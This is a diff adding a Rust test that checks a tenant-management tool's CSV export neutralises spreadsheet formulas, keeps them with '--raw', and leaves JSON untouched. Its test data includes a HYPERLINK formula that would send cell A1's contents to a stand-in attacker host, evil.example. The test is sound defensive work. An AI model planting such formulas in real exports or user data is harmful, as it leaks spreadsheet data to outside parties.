@@ -148,3 +148,32 @@ async fn audit_prints_a_reported_user_and_an_unvalidated_slug_escaped_and_json_a
     assert_eq!(remove["tenant"], bad_slug);
     assert!(text.contains("bad\\u{1b}[2Jslug"), "{text}");
 }
+
+#[test]
+fn export_neutralises_formulas_unless_raw_and_json_is_untouched() {
+    let w = World::new();
+    let formula = "=HYPERLINK(\"https://evil.example/?x=\"&A1,\"Acme\")";
+    w.ok(&["tenant", "add", "acme", "--name", formula]);
+    w.ok(&["tenant", "add", "beta", "--name", "@SUM(1+1)"]);
+    w.ok(&["tenant", "add", "gamma", "--name", "Gamma - West"]);
+    let name_cells = |csv: &str| -> Vec<String> {
+        csv::Reader::from_reader(csv.as_bytes())
+            .records()
+            .map(|r| r.unwrap()[1].to_owned())
+            .collect()
+    };
+    assert_eq!(
+        name_cells(&w.ok(&["export"])),
+        [
+            format!("'{formula}"),
+            "'@SUM(1+1)".into(),
+            "Gamma - West".into()
+        ]
+    );
+    assert_eq!(
+        name_cells(&w.ok(&["export", "--raw"])),
+        [formula, "@SUM(1+1)", "Gamma - West"]
+    );
+    let j = w.json(&["export"]);
+    assert_eq!(j[0]["name"], formula);
+}
